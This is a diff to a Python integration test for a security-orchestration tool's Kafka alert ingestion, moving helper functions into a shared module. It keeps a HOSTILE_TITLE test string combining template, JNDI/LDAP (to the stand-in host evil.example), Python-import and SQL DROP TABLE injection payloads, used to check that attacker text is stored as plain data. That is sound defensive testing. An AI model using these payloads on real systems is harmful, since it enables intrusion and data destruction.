@@ -7,65 +7,35 @@ from __future__ import annotations
 
 import asyncio
 import json
-import textwrap
 import uuid
 from pathlib import Path
 from typing import Any
 
 import pytest
-from aiokafka import AIOKafkaConsumer, AIOKafkaProducer  # type: ignore[import-untyped]
-from aiokafka.structs import TopicPartition  # type: ignore[import-untyped]
 
 from soar.config import IngestSettings, KafkaSettings
-from soar.connectors import Registry
-from soar.connectors.core import core
 from soar.engine import Engine
 from soar.ingest.dead_letters import ENVELOPE_HEADER
 from soar.ingest.worker import Worker
 from soar.models.audit import AuditFilter
-from soar.playbook.validate import LoadedPlaybook, validate_text
 from soar.store import RunFilter, SqliteStore
+from tests.integration.ingest.kafka_tools import (
+    MAX_BYTES,
+    TIME,
+    committed_offsets,
+    end_offsets,
+    good,
+    playbooks,
+    produce,
+    read_all,
+    run_worker_until,
+)
 from tests.kafka_broker import KafkaBroker
 
 pytestmark = [pytest.mark.kafka, pytest.mark.slow]
 
-PLAYBOOKS = [
-    """\
-    id: note-every-alert
-    name: Note every alert
-    trigger: {match: 'true'}
-    steps:
-      - {id: note, action: core.log, with: {message: "{{ alert.title }}"}}
-    """,
-    """\
-    id: high-only
-    name: Only high alerts
-    trigger: {match: 'alert.severity == "high"'}
-    steps:
-      - {id: mark, action: core.noop}
-    """,
-]
 TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736"
 TRACEPARENT = f"00-{TRACE_ID}-00f067aa0ba902b7-01"
-MAX_BYTES = 65_536
-TIME = "2026-11-29T10:00:00Z"
-
-
-def playbooks() -> tuple[Registry, list[LoadedPlaybook]]:
-    registry = Registry.of([core])
-    loaded = []
-    for text in PLAYBOOKS:
-        result = validate_text(textwrap.dedent(text), file="p.yaml", registry=registry)
-        assert result.loaded is not None, [str(d) for d in result.diagnostics]
-        loaded.append(result.loaded)
-    return registry, loaded
-
-
-def good(n: int, severity: str = "medium") -> bytes:
-    return json.dumps(
-        {"title": f"alert {n}", "severity": severity, "id": f"a-{n}", "time": TIME}
-    ).encode()
-
 
 BAD: dict[str, bytes] = {
     "not_json": b"this is not json {",
@@ -82,54 +52,6 @@ BAD: dict[str, bytes] = {
 }
 # an attacker's text in a valid alert is data: it runs, and is kept verbatim
 HOSTILE_TITLE = "{{ 7*7 }} ${jndi:ldap://evil.example/a} __import__('os') '; DROP TABLE runs;--"
-
-
-async def produce(bootstrap: str, topic: str, messages: list[tuple[bytes, list[Any]]]) -> None:
-    producer = AIOKafkaProducer(
-        bootstrap_servers=bootstrap, acks="all", max_request_size=4 * 1_048_576
-    )
-    await producer.start()
-    try:
-        for value, headers in messages:
-            await producer.send_and_wait(topic, value=value, key=b"k", headers=headers)
-    finally:
-        await producer.stop()
-
-
-async def read_all(bootstrap: str, topic: str, count: int) -> list[Any]:
-    consumer = AIOKafkaConsumer(
-        topic,
-        bootstrap_servers=bootstrap,
-        auto_offset_reset="earliest",
-        enable_auto_commit=False,
-        max_partition_fetch_bytes=4 * 1_048_576,
-    )
-    await consumer.start()
-    records: list[Any] = []
-    try:
-        async with asyncio.timeout(30):
-            while len(records) < count:
-                batches = await consumer.getmany(timeout_ms=200)
-                for batch in batches.values():
-                    records.extend(batch)
-    finally:
-        await consumer.stop()
-    return records
-
-
-async def run_worker_until(engine: Engine, kafka: KafkaSettings, done: Any) -> Worker:
-    worker = Worker(engine, kafka, IngestSettings(max_message_bytes=MAX_BYTES))
-    stop = asyncio.Event()
-    task = asyncio.create_task(worker.run(stop))
-    try:
-        async with asyncio.timeout(60):
-            while not await done(worker):
-                assert not task.done(), task.exception()
-                await asyncio.sleep(0.1)
-    finally:
-        stop.set()
-        await task
-    return worker
 
 
 async def test_alerts_become_runs_and_bad_messages_dead_letters(
@@ -169,7 +91,7 @@ async def test_alerts_become_runs_and_bad_messages_dead_letters(
         async def all_taken(worker: Worker) -> bool:
             return worker.consumed + worker.dead_lettered >= len(messages)
 
-        worker = await run_worker_until(engine, kafka, all_taken)
+        worker = await run_worker_until(engine, kafka, all_taken, within=60)
         await engine.wait_idle()
         runs = await store.list_runs(RunFilter(limit=1000))
         # one run per matching playbook per alert, each finished
@@ -215,7 +137,7 @@ async def test_alerts_become_runs_and_bad_messages_dead_letters(
         # delivered again (to a new group, which reads from the start, as a worker does after
         # a crash before its commit): the runs are found, none is started twice
         again_kafka = kafka.model_copy(update={"group": f"soar-{name}-again"})
-        second = await run_worker_until(engine, again_kafka, all_taken)
+        second = await run_worker_until(engine, again_kafka, all_taken, within=60)
         await engine.wait_idle()
         assert second.consumed == good_count
         again = await store.list_runs(RunFilter(limit=1000))
@@ -223,39 +145,6 @@ async def test_alerts_become_runs_and_bad_messages_dead_letters(
         await engine.stop()
     finally:
         await store.close()
-
-
-async def _group_consumer(bootstrap: str, group: str) -> Any:
-    consumer = AIOKafkaConsumer(
-        bootstrap_servers=bootstrap, group_id=group, enable_auto_commit=False
-    )
-    await consumer.start()
-    return consumer
-
-
-async def end_offsets(bootstrap: str, topic: str) -> dict[int, int]:
-    consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap)
-    await consumer.start()
-    try:
-        partitions = [TopicPartition(topic, p) for p in consumer.partitions_for_topic(topic) or ()]
-        ends = await consumer.end_offsets(partitions)
-    finally:
-        await consumer.stop()
-    return {tp.partition: offset for tp, offset in ends.items() if offset > 0}
-
-
-async def committed_offsets(bootstrap: str, group: str, topic: str) -> dict[int, int]:
-    consumer = await _group_consumer(bootstrap, group)
-    try:
-        await consumer._client.force_metadata_update()
-        found = {}
-        for partition in consumer.partitions_for_topic(topic) or ():
-            offset = await consumer.committed(TopicPartition(topic, partition))
-            if offset:
-                found[partition] = offset
-    finally:
-        await consumer.stop()
-    return found
 
 
 async def test_a_worker_whose_store_is_gone_commits_nothing_and_still_stops(
